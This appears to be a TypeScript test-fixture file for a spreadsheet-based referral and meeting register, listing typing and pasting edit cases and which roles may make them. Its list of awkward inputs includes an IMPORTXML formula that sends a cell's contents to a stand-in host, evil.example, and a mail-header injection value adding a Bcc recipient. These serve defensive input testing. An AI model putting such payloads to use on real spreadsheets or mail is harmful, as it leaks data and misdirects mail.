import { together } from './edit.ts';
import { administrator } from '../../crash/given/hands.ts';
import * as e from './edits.ts';
import type { Edit } from './edit.ts';
import { admin, owner, refused, anything, answer, only, asked, ofAll } from './kind.ts';
import type { Kind } from './kind.ts';
import { first, second, third, late, receipt, next } from './stage.ts';

/** Words in a column that is only kept. */
const words: readonly (readonly [string, string])[] = [
  ['a formula that asks the internet', '=IMPORTXML("http://evil.example/"&A1,"//a")'],
  ['a formula that copies another cell', '=A2'],
  ['a name of our templates', '{{decision}} {{#each}}'],
  ['words that a replacement would read', '$& $1 $` \\n'],
  ['lines', 'one\ntwo\r\nthree\n'],
  ['emoji', '👩‍👧 🏡 é'],
  ['right-to-left marks', '\u202Eright to left\u202C'],
  ['50,000 characters', 'x'.repeat(50_000)],
  ['only spaces', '   '],
  ['a header of a mail', 'Invented\r\nBcc: somebody@evil.example'],
  ['a number', '46350'],
  ['nothing', ''],
];

const note = (key: string, value: string): Edit => e.typed('referrals', key, 'permittedWhy', value);

export const typingKinds: readonly Kind[] = [
  ...words.map(([what, value]) =>
    admin(`types ${what} as a note`, note(late, value), { orders: asked('referrals', late) }),
  ),
  admin(
    'types a note over several rows at once',
    e.pastedDown('referrals', 'permittedWhy', (row) => `Invented ${String(row)}`),
    {
      orders: ofAll,
    },
  ),
  admin('takes an order back that was answered', e.typed('referrals', third, 'withdraw', ''), {
    orders: asked('referrals', third),
  }),
  admin(
    'changes the words of an order that was taken',
    e.typed('referrals', third, 'withdraw', 'Invented: said better.'),
    {
      orders: asked('referrals', third),
    },
  ),
  admin('types a length that no slot has', e.typed('sittings', next, 'slotMinutes', 'ages'), {
    orders: asked('sittings', next),
  }),
  admin('types a day that is none', e.typed('sittings', next, 'movedTo', '31 November 2026'), {
    orders: asked('sittings', next),
  }),
  admin('unticks a box', e.typed('outbox', receipt, 'stop', false), {
    orders: asked('outbox', receipt),
  }),
  admin('puts words where a tick was', e.typed('outbox', receipt, 'stop', 'maybe'), {
    orders: asked('outbox', receipt),
  }),
  admin(
    'ticks several mails that have gone at once',
    e.pastedDown('outbox', 'stop', (row) => row <= 3),
    {
      orders: only('row taken/outbox/', 'cell outbox/(receipt|returned)[^/]*/done', 'log '),
    },
  ),
  admin(
    'types a name where a mail is sent now',
    e.typed('outbox', receipt, 'sendNow', administrator),
    {
      orders: asked('outbox', receipt),
    },
  ),
  admin(
    'types below the last row',
    e.typedBelow('referrals', 2, 'permittedWhy', 'Invented: to do'),
  ),
  admin('types below the last row of the Outbox', e.typedBelow('outbox', 1, 'sendNow', 'Invented')),
  admin('types far below the last row', e.typedBelow('attendance', 90, 'cover', 'Invented')),
];

export const pastingKinds: readonly Kind[] = [
  admin(
    'pastes a block over columns of their own',
    together(
      e.pasted('referrals', first, 'permittedBy', [['chair@council.example'], ['']]),
      e.pasted('referrals', first, 'permittedWhy', [['Invented one'], ['Invented two']]),
    ),
    { orders: only(answer('referrals', first), answer('referrals', second)) },
  ),
  refused(
    'pastes a block that runs over into a column of the register',
    e.pasted('referrals', first, 'agendaItem', [['', 'pasted']]),
  ),
  owner(
    'pastes a block that runs over into a column of the register',
    e.pasted('referrals', first, 'agendaItem', [['', 'pasted over']]),
  ),
  refused('types over a status', e.typed('referrals', first, 'status', '– Withdrawn')),
  owner('types over a status', e.typed('referrals', first, 'status', '– Withdrawn')),
  owner('types a formula over a status', e.typed('referrals', second, 'status', '=A1')),
  owner(
    'pastes over a whole column of the register',
    e.pastedDown('referrals', 'initials', () => 'X.Y.'),
  ),
  owner(
    'pastes over the moments of the Outbox',
    e.pastedDown('outbox', 'sent', () => 46_000),
  ),
  owner('types over a reference', e.typed('referrals', second, 'key', 'my own note'), {
    orders: asked('referrals', second, 'row taken/referrals/my own note'),
    alone: true,
  }),
  owner('types one reference over another', e.typed('referrals', second, 'key', first), {
    orders: asked('referrals', second),
    alone: true,
  }),
  owner(
    'swaps two references',
    together(e.typed('referrals', first, 'key', third), e.typed('referrals', third, 'key', first)),
    {
      orders: anything,
    },
  ),
  owner('types over To do', e.typedBelow('todo', 1, 'what', 'Invented: feed the fish')),
  owner(
    'types over Start',
    e.pastedDown('start', 'value', () => 'pasted'),
  ),
  owner('types over Agenda', e.typedBelow('agenda', 1, 'reference', 'RP-99-0001')),
  owner(
    'types into Help',
    e.pastedDown('help', 'words', () => 'pasted'),
  ),
  owner('types over a line of the Log', e.typedBelow('log', 0, 'what', 'It never happened.'), {
    orders: only('log '),
  }),
  owner('empties a column of the register', e.clearedColumn('referrals', 'worker')),
  refused('empties the Outbox’s column of states', e.clearedColumn('outbox', 'status')),
  owner('empties the column of references', e.clearedColumn('referrals', 'key'), {
    orders: ofAll,
    alone: true,
  }),
];
